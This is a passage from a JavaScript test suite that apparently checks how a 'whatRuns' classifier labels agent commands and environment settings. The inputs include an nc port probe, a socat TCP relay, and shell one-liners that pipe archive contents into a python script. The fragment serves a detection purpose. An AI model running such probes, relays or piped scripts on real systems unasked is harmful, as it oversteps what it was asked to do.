    ['a port that is asked', { args: ['nc', '-z', 'localhost', '22'] }, []],
    ['a relay', { args: ['socat', 'tcp-listen:1,fork', 'tcp:localhost:2'] }, []],
    ['memory of node', env('NODE_OPTIONS', '--max-old-space-size=4096'), []],
    ['a kind of environment', env('ENV', 'production'), []],
    ['warnings of ruby', env('RUBYOPT', '-W0'), []],
    ['a word that tr makes', sh('x=$(date | tr -d " "); echo "$x" | awk "{print}"'), [oneLiner]],
    ['an archive that is unpacked', sh('gunzip -c /opt/a.gz | grep x | python3 /opt/x.py'), [oneLiner]],
    ['a file that is read', sh('while read x; do echo $x; done < /tmp/x; cat /tmp/y | grep z'), [oneLiner]],
    ['an environment of a shell', sh('eval "$(/usr/libexec/path_helper -s)"; exec /opt/tool'), [oneLiner]],
  ])('nothing more to say about %s', (_, item, reasons) => {
    expect(whatRuns({ itemPath: agent, ...item }).reasons).toEqual(reasons);
  });
});
